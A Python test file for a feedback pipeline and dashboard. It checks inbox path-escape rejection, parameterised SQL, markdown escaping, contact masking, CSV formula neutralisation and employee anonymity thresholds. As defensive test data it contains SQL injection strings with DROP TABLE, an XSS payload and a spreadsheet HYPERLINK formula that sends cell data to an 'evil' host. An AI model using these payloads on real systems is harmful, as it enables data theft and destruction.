"""Paths and dashboard safety: what may be read from the inbox, and what the dashboard may show.

- Inbox entries that are symlinks pointing outside the inbox, or whose names contain `..`, are
  never read: the ingestion asset records them in the ledger as `rejected` with the reason (so the
  data-health page shows them), once.
- Hidden and temporary files (`.~lock*`, `~$*`, `.hidden`, `*.part`, `*.tmp`, `*.crdownload`) are
  never listed: no ledger row, nothing loaded; the completed file loads once it has its name.
- The sensor requests a file only once its size is stable over two ticks (or it has not been
  touched for SETTLE_SECONDS).
- Dashboard: widget values reach SQL as parameters only; comments are text; e-mail addresses and
  phone numbers are masked by default; CSV downloads cannot run formulas; employee measures below
  their anonymity threshold are hidden in every unit and cannot be recovered from `all`.
"""

from __future__ import annotations

import ast
import os
from datetime import datetime
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pytest

from metrics.config import REPO_ROOT, settings
from metrics.measures import measure_values as compute_measure_values
from metrics.strategy import load_strategy
from pipelines.defs.sensors import SETTLE_SECONDS, evaluate_inbox
from pipelines.marts.engines import DuckDBEngine
from tests.snapshot_factory import MAR, make_snapshot

FIXTURE = Path(__file__).parent / "fixtures" / "pipeline"
DASHBOARD = REPO_ROOT / "dashboard"
NPS_HEADER = "response_id,responded_at,unit,score,account_id,comment\n"
SECRET = "s1,2025-03-02 10:00:00,A,0,acc,SECRET FROM OUTSIDE\n"


# --- the inbox --------------------------------------------------------------------------------------


def _ledger(home: Path) -> list[tuple]:
    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
    try:
        return con.execute(
            "SELECT file_path, status, rows_loaded, error FROM ops.file_ledger "
            "WHERE source = 'nps' ORDER BY file_path"
        ).fetchall()
    finally:
        con.close()


def _nps_events(home: Path) -> list[tuple]:
    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
    try:
        return con.execute("SELECT response_id, file_path FROM events.nps ORDER BY 1").fetchall()
    finally:
        con.close()


def _ingest_nps(home: Path) -> None:
    from pipelines.cli import materialize_all

    assert materialize_all(settings(), selection=[dg.AssetKey("nps_events")]).success


def test_escapes_from_the_inbox_are_rejected_in_the_ledger_and_never_read(pipeline_home, tmp_path):
    home = pipeline_home
    assert home.parent == tmp_path  # relative_out.csv climbs from inbox/nps/ out of the home
    inbox = home / "inbox" / "nps"
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text(NPS_HEADER + SECRET)
    (outside / "folder").mkdir()
    (outside / "folder" / "deep.csv").write_text(NPS_HEADER + SECRET)
    os.symlink(outside / "secret.csv", inbox / "link_out.csv")  # a file outside
    os.symlink(outside / "folder", inbox / "link_dir")  # a folder outside: not descended into
    os.symlink("../../../outside/secret.csv", inbox / "relative_out.csv")
    (inbox / "report..final.csv").write_text(NPS_HEADER + SECRET)  # `..` in the name
    os.symlink(inbox / "nps_2025-03.csv", inbox / "z_link_in.csv")  # inside: fine

    _ingest_nps(home)
    ledger = {Path(f).name: (status, rows, error) for f, status, rows, error in _ledger(home)}
    assert set(ledger) == {
        "nps_2025-03.csv",
        "z_link_in.csv",
        "link_dir",
        "link_out.csv",
        "relative_out.csv",
        "report..final.csv",
    }
    assert ledger["nps_2025-03.csv"][:2] == ("loaded", 5)
    assert ledger["z_link_in.csv"][:2] == ("duplicate", 0)  # same bytes as the file it points at
    for name, target in (
        ("link_out.csv", "secret.csv"),
        ("relative_out.csv", "secret.csv"),
        ("link_dir", "folder"),
    ):
        status, rows, error = ledger[name]
        assert (status, rows) == ("rejected", 0)
        assert error == (
            f"{inbox / name}: refused: a symlink to {(outside / target).resolve()}, "
            f"outside the inbox {inbox.resolve()}"
        )
    assert ledger["report..final.csv"] == (
        "rejected",
        0,
        f"{inbox / 'report..final.csv'}: refused: file names containing '..' are not loaded",
    )
    assert [r for r, _ in _nps_events(home)] == ["r1", "r2", "r3", "r4", "r5"]  # no s1

    _ingest_nps(home)  # a second run records nothing twice
    assert len(_ledger(home)) == 6


def test_hidden_and_temporary_files_are_not_listed_and_the_finished_file_loads(pipeline_home):
    home = pipeline_home
    inbox = home / "inbox" / "nps"
    partial = NPS_HEADER + "p1,2025-03-02 10:00:00,A,9,acc,half"
    for name in (
        ".~lock.nps_2025-03.csv#",
        "~$nps_2025-03.csv",
        ".hidden.csv",
        "upload.csv.part",
        "upload.csv.tmp",
        "upload.csv.crdownload",
        "UPLOAD.CSV.PART",
    ):
        (inbox / name).write_text(partial)
    _ingest_nps(home)
    assert [Path(f).name for f, *_ in _ledger(home)] == ["nps_2025-03.csv"]
    assert [r for r, _ in _nps_events(home)] == ["r1", "r2", "r3", "r4", "r5"]

    # the download completes and is renamed: now it loads, whole
    (inbox / "upload.csv.part").write_text(partial + " and done\n")
    (inbox / "upload.csv.part").rename(inbox / "upload.csv")
    _ingest_nps(home)
    ledger = [(Path(f).name, s, n) for f, s, n, _ in _ledger(home)]
    assert ledger == [("nps_2025-03.csv", "loaded", 5), ("upload.csv", "loaded", 1)]


def _stamp(path: Path, mtime: float) -> None:
    os.utime(path, (mtime, mtime))


def test_the_sensor_waits_until_a_growing_file_has_the_same_size_on_two_ticks(tmp_path):
    inbox = tmp_path / "inbox"
    folder = inbox / "ces"
    folder.mkdir(parents=True)
    path = folder / "export.csv"
    t0 = 1_800_000_000.0

    path.write_text("a,b\n")
    _stamp(path, t0)
    requests, cursor = evaluate_inbox(inbox, {}, now=t0 + 0.5)  # fresh, first sight
    assert requests == [] and cursor["ces"]["pending"] == {"export.csv": 4}

    with path.open("a") as fh:
        fh.write("1,2\n")
    _stamp(path, t0 + 1)
    requests, cursor = evaluate_inbox(inbox, cursor, now=t0 + 1.5)  # grew: still being written
    assert requests == [] and cursor["ces"]["pending"] == {"export.csv": 8}

    requests, cursor = evaluate_inbox(inbox, cursor, now=t0 + 2.0)  # same size on two ticks
    assert requests == ["ces"] and cursor["ces"]["pending"] == {}
    requests, cursor = evaluate_inbox(inbox, cursor, now=t0 + 3.0)  # requested once
    assert requests == []

    # a .part file is never requested however old it is; renamed, it is a new complete file
    part = folder / "next.csv.part"
    part.write_text("a,b\n1,2\n")
    _stamp(part, t0)
    requests, cursor = evaluate_inbox(inbox, cursor, now=t0 + 100)
    assert requests == []
    part.rename(folder / "next.csv")
    requests, cursor = evaluate_inbox(inbox, cursor, now=t0 + 105)
    assert requests == ["ces"]


def test_a_file_untouched_for_the_settle_time_is_complete_on_first_sight(tmp_path):
    folder = tmp_path / "inbox" / "nps"
    folder.mkdir(parents=True)
    path = folder / "a.csv"
    path.write_text("x\n")
    _stamp(path, 1_800_000_000.0)
    requests, _ = evaluate_inbox(tmp_path / "inbox", {}, now=1_800_000_000.0 + SETTLE_SECONDS)
    assert requests == ["nps"]


# --- dashboard: SQL only with parameters -------------------------------------------------------------

SQL_WORDS = ("select ", " from ", " where ", " and ", " or ", "order by", " limit ", " join ")


def _looks_like_sql(text: str) -> bool:
    lowered = f" {text.lower()} "
    return sum(word in lowered for word in SQL_WORDS) >= 1


def _constant_text(node: ast.AST, constants: dict[str, str]) -> str | None:
    """The text of a SQL expression made only of literals and module constants, else None."""
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    if isinstance(node, ast.Name) and node.id in constants:
        return constants[node.id]
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left, right = _constant_text(node.left, constants), _constant_text(node.right, constants)
        return None if left is None or right is None else left + right
    return None


def _queries_module() -> tuple[ast.Module, dict[str, str]]:
    tree = ast.parse((DASHBOARD / "queries.py").read_text())
    constants = {}
    for node in tree.body:
        if isinstance(node, ast.Assign) and len(node.targets) == 1:
            target = node.targets[0]
            value = node.value
            if (
                isinstance(target, ast.Name)
                and isinstance(value, ast.Constant)
                and isinstance(value.value, str)
            ):
                constants[target.id] = value.value
    return tree, constants


def test_no_dashboard_sql_is_built_by_formatting_values():
    tree, _ = _queries_module()
    offenders = []
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):  # f-string
            text = "".join(
                v.value
                for v in node.values
                if isinstance(v, ast.Constant) and isinstance(v.value, str)
            )
            if _looks_like_sql(text) and any(
                isinstance(v, ast.FormattedValue) for v in node.values
            ):
                offenders.append((node.lineno, "f-string"))
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            base = node.func.value
            if (
                node.func.attr == "format"
                and isinstance(base, ast.Constant)
                and isinstance(base.value, str)
                and _looks_like_sql(base.value)
            ):
                offenders.append((node.lineno, ".format"))
        elif (
            isinstance(node, ast.BinOp)
            and isinstance(node.op, ast.Mod)
            and isinstance(node.left, ast.Constant)
            and isinstance(node.left.value, str)
            and _looks_like_sql(node.left.value)
        ):
            offenders.append((node.lineno, "%"))
    assert offenders == []


def _appended(function: ast.FunctionDef, name: str) -> list[ast.expr]:
    return [
        node.args[0]
        for node in ast.walk(function)
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr == "append"
        and isinstance(node.func.value, ast.Name)
        and node.func.value.id == name
    ]


def test_every_dashboard_query_passes_one_parameter_per_placeholder():
    tree, constants = _queries_module()
    checked = dynamic = 0
    for function in [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]:
        local = dict(constants)  # `sql = "SELECT ..."` inside the function
        for node in ast.walk(function):
            if isinstance(node, ast.Assign) and len(node.targets) == 1:
                target, value = node.targets[0], _constant_text(node.value, constants)
                if isinstance(target, ast.Name) and value is not None:
                    local[target.id] = value
        for call in ast.walk(function):
            if not (
                isinstance(call, ast.Call)
                and isinstance(call.func, ast.Name)
                and call.func.id == "_run"
            ):
                continue
            params = call.args[2] if len(call.args) > 2 else None
            text = _constant_text(call.args[1], local)
            if text is None:
                # built from a constant and conditions: each condition a literal with one "?",
                # appended together with its value
                conditions = _appended(function, "where")
                assert conditions and all(
                    isinstance(c, ast.Constant) and c.value.count("?") == 1 for c in conditions
                ), function.name
                assert len(_appended(function, "params")) == len(conditions), function.name
                dynamic += 1
                continue
            holes = text.count("?")
            if params is None:
                assert holes == 0, text
            elif isinstance(params, ast.List):
                assert holes == len(params.elts), (call.lineno, text)
            checked += 1
    assert checked >= 20 and dynamic == 1  # every question the dashboard asks


def test_pages_never_touch_duckdb_or_raw_html():
    for page in [DASHBOARD / "app.py", *DASHBOARD.glob("*/*.py")]:  # components/, pages/
        text = page.read_text()
        assert "unsafe_allow_html=True" not in text, page
        assert "st.html(" not in text, page
        if page.parent.name == "views":
            for forbidden in ("import duckdb", "query_snapshot", ".execute(", "pipelines"):
                assert forbidden not in text, (page, forbidden)


@pytest.fixture
def snapshot(home):
    path = home / "serving" / "current.duckdb"
    make_snapshot(path)
    from dashboard import queries

    meta = queries.current(path)
    assert meta is not None
    return queries, meta


INJECTED = ["Sales' OR '1'='1", "x') OR 1=1 --", 'Sales"; DROP TABLE marts.feedback_items; --']


@pytest.mark.parametrize("value", INJECTED)
def test_widget_values_with_sql_in_them_match_nothing_and_break_nothing(snapshot, value):
    queries, meta = snapshot
    assert queries.responses(meta, "nps", value, MAR).empty
    assert queries.responses(meta, value, "all", MAR).empty
    assert queries.feedback_items(meta, (value,), ("nps", "ces"), ("overdue",)).empty
    assert queries.file_ledger(meta, value).empty
    assert queries.measure_values(meta, value).empty
    assert queries.quarantine_rows(meta, value, value).empty
    # and the tables are all still there
    assert len(queries.feedback_items(meta, ("Sales",), ("nps", "ces"), ("overdue",))) == 1
    assert len(queries.responses(meta, "nps", "all", MAR)) > 0


# --- dashboard: comments as text, contacts masked, no formulas in downloads ---------------------


def test_markup_in_comments_is_escaped_for_markdown():
    from dashboard.components.text import escape_markdown

    hostile = "<script>alert(1)</script> **b** [x](javascript:alert(1)) :red[r] $x$ `c`"
    escaped = escape_markdown(hostile)
    for char in "<>*[]()`$:":
        # every markup character is escaped: preceded by a backslash
        positions = [i for i, c in enumerate(escaped) if c == char]
        assert positions and all(escaped[i - 1] == "\\" for i in positions), char


@pytest.mark.parametrize(
    ("comment", "masked"),
    [
        ("mail me: jane.doe+cx@example.co.uk", "mail me: [e-mail hidden]"),
        ("call +49 170 1234567 today", "call [phone hidden] today"),
        ("(030) 123-4567 or 030/1234567", "[phone hidden] or [phone hidden]"),
        ("since 2025-03-20, 3 times", "since 2025-03-20, 3 times"),
    ],
)
def test_contacts_in_comments_are_masked(comment, masked):
    from dashboard.components.text import comment_text

    assert comment_text(comment, mask=True) == masked
    assert comment_text(comment, mask=False) == comment


def test_masking_is_on_unless_the_strategy_turns_it_off(snapshot):
    queries, meta = snapshot
    # tests/fixtures/pipeline/strategy.yaml has no `privacy:` section
    assert "privacy" not in (FIXTURE / "strategy.yaml").read_text()
    assert load_strategy(FIXTURE / "strategy.yaml").privacy.mask_contacts is True
    assert queries.mask_contacts_enabled(meta) is True
    # a snapshot whose strategy has no privacy section at all: still masked
    con = duckdb.connect(str(meta.path))
    try:
        con.execute('UPDATE serving.strategy SET strategy_json = \'{"name": "x"}\'')
        con.execute("UPDATE serving.meta SET built_at = built_at + INTERVAL 1 SECOND")
    finally:
        con.close()
    fresh = queries.current(Path(meta.path))
    assert fresh is not None and fresh.built_at != meta.built_at
    assert queries.mask_contacts_enabled(fresh) is True


def test_csv_downloads_neutralise_formulas():
    from dashboard.components.tables import csv_safe

    frame = pd.DataFrame(
        {
            "Comment": [
                '=HYPERLINK("http://evil/?"&A1,"x")',
                "+1",
                "-2+3",
                "@SUM(A1)",
                "fine",
                None,
            ],
            "Score": [0, 1, 2, 3, 4, 5],
        }
    )
    text = csv_safe(frame).to_csv(index=False)
    assert text.splitlines() == [
        "Comment,Score",
        '"\'=HYPERLINK(""http://evil/?""&A1,""x"")",0',
        "'+1,1",
        "'-2+3,2",
        "'@SUM(A1),3",
        "fine,4",
        ",5",
    ]
    page = (DASHBOARD / "views" / "feedback_loop.py").read_text()
    assert "csv_safe(" in page and page.count(".to_csv(") == 1


# --- employee anonymity in marts.measure_values ------------------------------------------------------


def _pulse(unit: str, n: int, month: int, start: int) -> list[dict]:
    """n pulse responses of `unit`: eNPS scores cycle 10, 9, 6, 0 and wellbeing 4."""
    scores = [10, 9, 6, 0]
    return [
        {
            "response_id": f"{unit}{month}-{i}",
            "responded_at": datetime(2025, month, 5, 9),
            "unit": unit,
            "enps_score": scores[(start + i) % 4],
            "wellbeing": 4,
        }
        for i in range(n)
    ]


def test_employee_measures_below_the_threshold_are_hidden_in_every_unit_and_in_all(
    ibis_warehouse, ibis_strategy
):
    # March: A 2 (below 5), B 6, C 9. April: A 1, B 1, C 10 (two hidden, 2 responses together).
    # May: A 3, B 1 (all 4 < 5). June: A 6 alone.
    plan = {3: {"A": 2, "B": 6, "C": 9}, 4: {"A": 1, "B": 1, "C": 10}, 5: {"A": 3, "B": 1}}
    plan[6] = {"A": 6}
    rows = [
        r for month, units in plan.items() for u, n in units.items() for r in _pulse(u, n, month, 0)
    ]
    ibis_warehouse.insert("employee_pulse", rows)
    strategy = ibis_strategy(
        {
            "enps": {"source": "employee_pulse", "kind": "nps", "field": "enps_score",
                     "min_n": 5, "anonymity": True},
            "employee_health": {"source": "employee_pulse", "kind": "employee_health",
                                "min_n": 5, "anonymity": True},
        }
    )  # fmt: skip
    con = ibis_warehouse.con
    DuckDBEngine(con).write(
        "measure_values", compute_measure_values(ibis_warehouse.events(), strategy)
    )
    cells = {
        (m, u, p.month): (v, lo, hi, n, s)
        for m, u, p, v, lo, hi, n, s in con.execute(
            "SELECT measure, unit, period_start, value, ci_low, ci_high, n, suppressed "
            "FROM marts.measure_values"
        ).fetchall()
    }
    hidden = (None, None, None)
    for measure in ("enps", "employee_health"):
        # March: A hidden (n=2); B, the smallest shown unit, hidden to protect A; C and all shown
        assert cells[(measure, "A", 3)][:3] == hidden and cells[(measure, "A", 3)][3:] == (2, True)
        assert cells[(measure, "B", 3)][:3] == hidden and cells[(measure, "B", 3)][3:] == (6, True)
        assert cells[(measure, "C", 3)][4] is False and cells[(measure, "all", 3)][3:] == (
            17,
            False,
        )
        # April: A and B hidden but only 2 responses together: all - C would show those two
        # people's answers, so C is hidden too; all (12) stays, revealing no group below 5
        for unit in ("A", "B", "C"):
            assert cells[(measure, unit, 4)][:3] == hidden, (measure, unit)
        assert cells[(measure, "all", 4)][3:] == (12, False)
        # May: every unit and `all` (n=4) are below 5: nothing is shown
        for unit in ("A", "B", "all"):
            assert cells[(measure, unit, 5)][:3] == hidden and cells[(measure, unit, 5)][4]
        # June: one unit with enough responses is shown, and so is `all` (the same people)
        assert cells[(measure, "A", 6)][4] is False and cells[(measure, "all", 6)][4] is False
    # a shown value is the right one: C's 9 March answers are 10, 9, 6, 0, 10, 9, 6, 0, 10:
    # 5 promoters (9-10), 4 detractors (0-6) -> eNPS = 100 * (5 - 4) / 9
    assert cells[("enps", "C", 3)][0] == pytest.approx(100 * (5 - 4) / 9)
    # nothing below the threshold leaves the warehouse with a value, in any table
    leaks = con.execute(
        "SELECT count(*) FROM marts.measure_values WHERE n < 5 AND value IS NOT NULL"
    ).fetchone()
    assert leaks == (0,)
